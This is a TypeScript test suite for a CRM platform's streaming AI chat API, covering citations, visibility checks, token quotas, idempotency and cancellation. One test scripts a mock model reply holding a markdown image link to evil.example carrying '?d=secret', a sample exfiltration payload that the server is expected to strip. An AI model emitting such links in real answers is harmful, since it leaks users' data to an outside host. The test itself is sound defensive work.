import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { newId } from '../../subgraphs/kernel/ids.ts'
import { ChatServer } from '../../subgraphs/kernel/language-model/chat-server.fixture.ts'
import { account } from '../builders.ts'
import { Platform, type Member } from '../platform.ts'
import { sessionOf } from '../requests/session.ts'
import { restClient } from '../rest-client.ts'
import { framesOf, readUntil } from './frames.ts'

const server = new ChatServer()
let platform: Platform
let ann: Member
let id: string

beforeAll(async () => {
  const url = await server.start()
  platform = new Platform({
    MODEL_URL: url,
    MODEL_NAME: 'writer-1',
    MODEL_MODES: JSON.stringify({ vendor_a: { url, name: 'vendor-1' } }),
    MODEL_TIMEOUT_MS: '2000',
    MODEL_TOKENS_PER_USER_DAY: '20000',
    OUTBOUND_ALLOW: '127.0.0.0/8',
  })
  await platform.open()
})
afterAll(async () => {
  await platform.close()
  server.stop()
})
beforeEach(async () => {
  server.asked.length = 0
  server.left = 0
  server.answer = (reply) => reply.text('Hello.').end()
  platform.advanceClock(60_000)
  ann = await platform.member()
  id = (await ann.rest.conversationCreate!({ body: {} })).body.id as string
})

const stream = (
  content: string,
  more: { headers?: object; mode?: string; signal?: AbortSignal } = {},
): Promise<Response> =>
  fetch(`${platform.url}/v1/conversations/${id}/messages/stream`, {
    method: 'POST',
    headers: { ...ann.headers, 'content-type': 'application/json', ...more.headers },
    body: JSON.stringify({ content, ...(more.mode && { mode: more.mode }) }),
    ...(more.signal && { signal: more.signal }),
  })
const send = (content: string, headers: Record<string, string> = {}) =>
  ann.rest.conversationSend!({ id, body: { content }, headers })
const messages = async () => (await ann.rest.conversation!({ id })).body.messages as readonly Record<string, unknown>[]
const tokens = async () =>
  (
    await platform.query<{ tokens: string }>('select tokens from kernel.model_tokens where user_id = $1', [ann.userId])
  ).map((row) => Number(row.tokens))

describe('an answer of a model', () => {
  it('with texts that a database cannot store is stored with replacements', async () => {
    let step = 0
    server.answer = (reply) =>
      ++step === 1
        ? reply.call('search', { text: 'a\0b\ud800' }).end('tool_calls')
        : reply.text('Nothing\0 found. \udfff').end()
    const { status, body } = await send('Who is it?')
    expect([status, body.status, body.content]).toEqual([201, 'COMPLETED', 'Nothing\ufffd found. \ufffd'])
    expect((await messages())[1]).toMatchObject({ toolCalls: [{ input: { text: 'a\ufffdb\ufffd' } }] })
  })

  it('arrives in parts that add up to the stored text, with tools that read as the caller and citations of what they returned', async () => {
    const { id: accountId } = await account(ann, { name: 'Halvorsen Marine' })
    const foreign = newId()
    let step = 0
    server.answer = (reply) =>
      ++step === 1
        ? reply.call('search', { object: 'account', text: 'Halvorsen' }).end('tool_calls')
        : reply
            .text('It is [Halv', `orsen](/account/${accountId}), not [Eve](/account/${foreign})`)
            .text(' or ![x](https://evil.ex', 'ample/?d=secret) at https://evil.example/a <img src=x>now.')
            .end()
    const frames = await framesOf(await stream('Who is Halvorsen?'))
    const content = `It is [Halvorsen](/account/${accountId}), not Eve or x at (link removed) now.`
    expect(frames.map(({ event }) => event).filter((event) => event !== 'token')).toEqual([
      'start',
      'tool',
      'tool',
      'citation',
      'done',
    ])
    expect(frames.flatMap(({ event, data }) => (event === 'token' ? [data['delta']] : [])).join('')).toBe(content)
    const [question, answer] = await messages()
    expect([question!['role'], question!['content'], answer!['content'], answer!['status'], answer!['model']]).toEqual([
      'USER',
      'Who is Halvorsen?',
      content,
      'COMPLETED',
      'writer-1-0405',
    ])
    expect(answer!['citations']).toEqual([
      { entityType: 'ACCOUNT', entityId: accountId, field: null, label: 'Halvorsen Marine' },
    ])
    expect(answer!['toolCalls']).toMatchObject([{ name: 'search', status: 'OK', output: { rows: 1 } }])
    expect(answer!['usage']).toEqual({ inputTokens: 24, outputTokens: 14, isEstimated: false })
    expect(await tokens()).toEqual([38])
    const result = JSON.parse(server.asked[1]!.messages.at(-1)!.content!) as Record<string, unknown>
    expect(result).toMatchObject({ untrusted: true, hits: [{ object: 'account', total: 1 }] })
  })

  it('is withheld when a record that the model was given, named or not, is out of sight by now', async () => {
    ann = await platform.member({ visibility: 'OWN', organizationId: await platform.organization() })
    id = (await ann.rest.conversationCreate!({ body: {} })).body.id as string
    const boss = await platform.member({ organizationId: ann.organizationId })
    const [linked, read] = [await account(ann, { name: 'Marine One' }), await account(ann, { name: 'Marine Two' })]
    let step = 0
    server.answer = (reply) =>
      ++step === 1
        ? reply.call('search', { object: 'account', text: 'Marine' }).end('tool_calls')
        : reply.text(`[Marine One](/account/${linked.id}) is larger than the other one.`).end()
    await send('Which one is larger?')
    expect((await messages())[1]).toMatchObject({ isWithheld: false, citations: [{ entityId: linked.id }] })
    await boss.rest.accountUpdate!({ id: read.id as string, body: { ownerId: boss.userId } })
    expect((await messages())[1]).toMatchObject({ isWithheld: true, content: '', citations: [], toolCalls: [] })
  })

  it('gets the last 20 messages, and the model that the mode names', async () => {
    for (let n = 0; n < 11; n++) await send(`Question ${n}`)
    await framesOf(await stream('Last', { mode: 'vendor_a' }))
    const { model, messages: sent } = server.asked.at(-1)!
    const contents = sent.filter(({ role }) => role !== 'system').map(({ content }) => content)
    expect([model, contents.length, contents[0], contents.at(-1)]).toEqual(['vendor-1', 21, 'Question 1', 'Last'])
  })

  it('is not given where an owner has switched its mode off, however it is asked for, and elsewhere it is', async () => {
    const other = ann
    const organizationId = await platform.organization('Without a model')
    ann = await platform.member({ organizationId })
    id = (await ann.rest.conversationCreate!({ body: {} })).body.id as string
    const administer = async (role: 'OWNER' | 'MEMBER', disabledAssistantModes: readonly string[] | null) => {
      const token = await sessionOf(platform, await platform.member({ organizationId, role }))
      const { contract, url } = platform
      const rest = restClient(contract, url, { Authorization: `Bearer ${token}` })
      const { status, body } = await rest['organizationUpdate']!({ body: { disabledAssistantModes } })
      return status === 200 ? (body.settings.disabledAssistantModes as unknown) : status
    }
    expect(await administer('MEMBER', ['model'])).toBe(403)
    expect(await administer('OWNER', ['model', 'vendor_a'])).toEqual(['model', 'vendor_a'])
    const stored = await messages()
    for (const mode of ['model', 'vendor_a']) {
      const alone = await ann.rest.conversationSend!({ id, body: { content: 'Hello', mode } })
      const streamed = await stream('Hello', { mode })
      const answers = [alone.body, await streamed.json()] as { errors: [object] }[]
      expect([alone.status, streamed.status]).toEqual([400, 400])
      for (const { errors } of answers) expect(errors).toMatchObject([{ path: 'mode', code: 'MODE_DISABLED' }])
    }
    expect(await messages()).toEqual(stored)
    expect((await send('How many accounts?')).body).toMatchObject({ mode: 'local', status: 'COMPLETED' })
    expect((await framesOf(await stream('How many accounts?')))[0]!.data).toMatchObject({ mode: 'local' })
    expect(server.asked).toEqual([])
    const { id: theirs } = (await other.rest.conversationCreate!({ body: {} })).body
    const answered = await other.rest.conversationSend!({ id: theirs as string, body: { content: 'Hello' } })
    expect(answered.body.mode).toBe('model')
    expect(await administer('OWNER', null)).toEqual([])
    expect((await send('Hello')).body.mode).toBe('model')
  })

  it('is stopped when the client leaves, and keeps what was written', async () => {
    server.answer = (reply) => reply.text('Twelve deals ', 'are ')
    const leaving = new AbortController()
    await readUntil(await stream('How many?', { signal: leaving.signal }), 'token')
    leaving.abort()
    await expect.poll(() => server.left).toBe(1)
    await expect.poll(async () => (await messages()).map(({ status }) => status)).toEqual(['COMPLETED', 'CANCELLED'])
    expect((await messages())[1]!['content']).toMatch(/^Twelve/)
    server.answer = (reply) => reply.text('Again.').end()
    expect((await send('And now?')).status).toBe(201)
  })

  it('is the only one of its conversation: a second tab gets 409, and nothing of it is stored', async () => {
    let finish: () => void = () => undefined
    server.answer = (reply) => {
      reply.text('Twelve deals ')
      finish = () => reply.text('are open.').end()
    }
    const first = await stream('How many?')
    const begun = await readUntil(first, 'start')
    expect(begun.data).toMatchObject({ conversationId: id, mode: 'model' })
    await expect.poll(() => server.asked.length).toBe(1)
    const key = { 'Idempotency-Key': newId() }
    const others = [
      await send('How many?', key),
      await ann.rest.conversationMessageStream!({ id, body: { content: 'How many?' } }),
    ]
    expect(others.map(({ status, body, headers }) => [status, body.code, headers.get('retry-after')])).toEqual([
      [409, 'CONVERSATION_BUSY', '5'],
      [409, 'CONVERSATION_BUSY', '5'],
    ])
    expect((await messages()).map(({ status }) => status)).toEqual(['COMPLETED', 'RUNNING'])
    finish()
    await expect.poll(async () => (await messages())[1]!['status']).toBe('COMPLETED')
    server.answer = (reply) => reply.text('Twelve.').end()
    // The refusal was not stored for the key, because it said when to retry.
    expect((await send('How many?', key)).status).toBe(201)
    expect(await messages()).toHaveLength(4)
  })

  it('that breaks off is FAILED with what there was; alone, nothing is stored', async () => {
    server.answer = (reply) => reply.text('Twelve deals ').cut()
    const frames = await framesOf(await stream('How many?'))
    expect(frames.at(-1)).toMatchObject({ event: 'error', data: { code: 'UNAVAILABLE', retryAfter: 5 } })
    expect((await messages())[1]).toMatchObject({
      status: 'FAILED',
      errorCode: 'UNAVAILABLE',
      content: 'Twelve deals ',
    })
    const refused = await send('How many?')
    expect([refused.status, refused.body.code, (await messages()).length]).toEqual([503, 'UNAVAILABLE', 2])
  })

  it('is FAILED when the model calls tools that do not exist, in forms that cannot be used, or without end', async () => {
    server.answer = (reply) => reply.call('delete_everything', 'nonsense').end('tool_calls')
    expect((await framesOf(await stream('Delete all deals'))).at(-1)).toMatchObject({
      event: 'error',
      data: { code: 'MODEL_FAILED' },
    })
    expect(server.asked).toHaveLength(3)
    server.asked.length = 0
    server.answer = (reply) => reply.call('describe', { object: 'account' }).end('tool_calls')
    expect((await framesOf(await stream('Loop'))).at(-1)).toMatchObject({
      event: 'error',
      data: { code: 'MODEL_FAILED' },
    })
    expect([server.asked.length, server.asked.at(-1)!.tools]).toEqual([6, undefined])
  })

  it('is replayed for its key without a call of the model, and costs nothing again', async () => {
    const headers = { 'Idempotency-Key': newId() }
    const first = await framesOf(await stream('Hello?', { headers }))
    const used = await tokens()
    const second = await stream('Hello?', { headers })
    expect([second.headers.get('idempotent-replayed'), (await framesOf(second)).at(-1)!.data['messageId']]).toEqual([
      'true',
      first.at(-1)!.data['messageId'],
    ])
    expect([server.asked.length, await tokens(), (await messages()).length]).toEqual([1, used, 2])
  })

  it('is refused before the first frame when the tokens are used, and stores nothing, also for its key', async () => {
    await platform.query(
      'insert into kernel.model_tokens (organization_id, user_id, day, tokens) values ($1, $2, $3, 19999)',
      [ann.organizationId, ann.userId, platform.now.toISOString().slice(0, 10)],
    )
    const headers = { 'Idempotency-Key': newId() }
    const refused = [
      await ann.rest.conversationMessageStream!({ id, body: { content: 'Hello?' }, headers }),
      await send('Hello?'),
    ]
    expect(refused.map(({ status, body }) => [status, body.code])).toEqual([
      [429, 'TOKEN_LIMIT_REACHED'],
      [429, 'TOKEN_LIMIT_REACHED'],
    ])
    expect(Number(refused[0]!.headers.get('retry-after'))).toBeGreaterThan(3600)
    expect([server.asked.length, await messages(), (await ann.rest.conversation!({ id })).body.messageCount]).toEqual([
      0,
      [],
      0,
    ])
    expect((await ann.rest.conversation!({ id })).body.title).toBeNull()
    await platform.query('delete from kernel.model_tokens where user_id = $1', [ann.userId])
    expect((await framesOf(await stream('Hello?', { headers }))).at(-1)!.event).toBe('done')
  })

  it('of a process that has ended is FAILED when its lease is over, and the next message can be sent', async () => {
    server.answer = (reply) => reply.text('Twelve deals ')
    const leaving = new AbortController()
    await readUntil(await stream('How many?', { signal: leaving.signal }), 'token')
    const [, running] = await messages()
    expect([running!['status'], (await send('More?')).status]).toEqual(['RUNNING', 409])
    await expect.poll(async () => (await messages())[1]!['content'], { timeout: 10_000 }).toBe('Twelve deals ')
    platform.advanceClock(90_001)
    expect((await messages())[1]).toMatchObject({ status: 'FAILED', errorCode: 'INTERRUPTED' })
    server.answer = (reply) => reply.text('Twelve.').end()
    expect((await send('More?')).status).toBe(201)
    // The first process was only late: what it writes now is not stored.
    leaving.abort()
    await expect.poll(() => server.left).toBe(1)
    expect((await messages()).map(({ status, content }) => [status, content])).toEqual([
      ['COMPLETED', 'How many?'],
      ['FAILED', 'Twelve deals '],
      ['COMPLETED', 'More?'],
      ['COMPLETED', 'Twelve.'],
    ])
  })
})
